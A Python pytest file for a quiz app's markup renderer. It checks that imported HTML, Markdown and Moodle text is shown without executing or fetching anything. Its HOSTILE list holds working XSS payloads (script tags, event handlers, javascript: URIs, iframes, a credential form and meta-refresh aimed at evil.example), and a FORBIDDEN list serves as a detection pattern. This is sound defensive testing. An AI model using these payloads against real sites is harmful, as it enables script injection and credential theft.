"""Texts that came from other systems: shown as they are meant, and never as a program."""

import pytest

from quizapp.domain.texts import Marked, Markup
from quizapp.web.markup import inline_markdown, markdown, plain_text

NAME = "ab" * 32
HOSTILE = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '<a href="javascript:alert(1)">x</a>',
    '<a href="&#106;avascript:alert(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    "<svg/onload=alert(1)>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    '<iframe src="https://evil.example"></iframe>',
    '<object data="https://evil.example/x.swf"></object>',
    '<form action="https://evil.example"><input name="password"></form>',
    '<p style="background:url(https://evil.example/x)">x</p>',
    '<img src="https://evil.example/pixel.png">',
    '<img src="//evil.example/pixel.png">',
    f'<img src="asset:{NAME}" onload="alert(1)">',
    f'<img src="/figures/{NAME}/../../account">',
    f'<img src="/figures/{NAME}?x=https://evil.example">',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<base href="https://evil.example/">',
    "\\(<script>alert(1)</script>\\)",
    "\\(<img src=x onerror=alert(1)>\\)",
    "$$<b onclick=alert(1)>x</b>$$",
    '<span class="math inline">\\href{javascript:alert(1)}{x}</span>',
    "<<script>script>alert(1)<</script>/script>",
    "<a\nhref=\n'\x01javascript:alert(1)'>x</a>",
)
FORBIDDEN = (
    "<script",
    "<svg",
    "<iframe",
    "<object",
    "<form",
    "<input",
    "<style",
    "<link",
    "<meta",
    "<base",
    "<math",
    "style=",
    "onerror=",
    "onload=",
    "onclick=",
    'href="javascript',
    'href="data',
    'src="http',
    'src="//',
    "evil.example/pixel",
)


@pytest.mark.parametrize("markup", list(Markup))
@pytest.mark.parametrize("hostile", HOSTILE)
def test_nothing_of_a_text_is_executed_or_fetched(hostile: str, markup: Markup) -> None:
    text = Marked(hostile, markup)

    for shown in (str(markdown(text)), str(inline_markdown(text))):
        tags = shown.casefold().split("<")[1:]
        inside = ["<" + tag.partition(">")[0] for tag in tags]
        found = [(word, tag) for word in FORBIDDEN for tag in inside if word in tag]
        assert found == []


def test_html_keeps_what_its_author_did() -> None:
    html = (
        "<p>H<sub>2</sub>O and x<sup>2</sup></p><table><tr><th>a</th><td>1</td></tr></table><pre>x  = 1</pre>"
    )

    shown = markdown(Marked(html, Markup.HTML))

    assert "H<sub>2</sub>O and x<sup>2</sup>" in shown
    assert "<th>a</th><td>1</td>" in shown
    assert "<pre>x  = 1</pre>" in shown


def test_markdown_stays_text_in_plain_and_in_html() -> None:
    assert "<strong>" not in markdown(Marked("**a** _b_", Markup.PLAIN))
    assert "<strong>" not in markdown(Marked("**a**", Markup.HTML))
    assert "<strong>a</strong>" in markdown(Marked("**a**", Markup.MARKDOWN))
    assert "&lt;b&gt;" in markdown(Marked("<b>x</b>", Markup.PLAIN))


def test_moodles_own_format_makes_paragraphs_and_keeps_line_ends() -> None:
    shown = markdown(Marked("One\nline\n\nTwo", Markup.MOODLE))

    assert shown.count("<p>") == 2
    assert "One<br>" in shown


def test_headings_start_below_those_of_the_page() -> None:
    assert "<h3>Big</h3>" in markdown(Marked("<h1>Big</h1>", Markup.HTML))


def test_formulas_of_other_systems_are_drawn_as_our_own() -> None:
    shown = markdown(Marked("<p>\\(x^2\\) and \\[y\\] and $$z$$</p>", Markup.HTML))

    assert '<span class="math inline">x^2</span>' in shown
    assert shown.count('class="math block"') == 2


def test_own_pictures_are_shown_wherever_markup_may_be() -> None:
    for text in (
        Marked(f'<img src="asset:{NAME}" alt="A tree">', Markup.HTML),
        Marked(f"![A tree](asset:{NAME})"),
    ):
        assert f'<img src="/figures/{NAME}" alt="A tree">' in markdown(text)


def test_a_line_loses_only_the_one_paragraph_around_it() -> None:
    assert inline_markdown(Marked("<p>one</p>", Markup.HTML)) == "one"
    assert inline_markdown(Marked("<p>one</p><p>two</p>", Markup.HTML)).count("<p>") == 2


def test_a_title_has_words_where_blocks_end() -> None:
    assert plain_text(Marked("<p>one</p><p>two &amp; three</p>", Markup.HTML)) == "one two & three"


@pytest.mark.parametrize("piece", ["<p", "<p>", "\\(", "\\[", "$$", "<h1", "\n \n", "<", "&", "</p", "<p >a"])
def test_no_text_keeps_the_renderer_busy(piece: str) -> None:
    """A careless expression would need hours for these."""
    for markup in (Markup.HTML, Markup.MOODLE, Markup.PLAIN):
        text = Marked(piece * (60_000 // len(piece)), markup)
        assert len(markdown(text)) < 1_000_000
        assert len(inline_markdown(text)) < 1_000_000
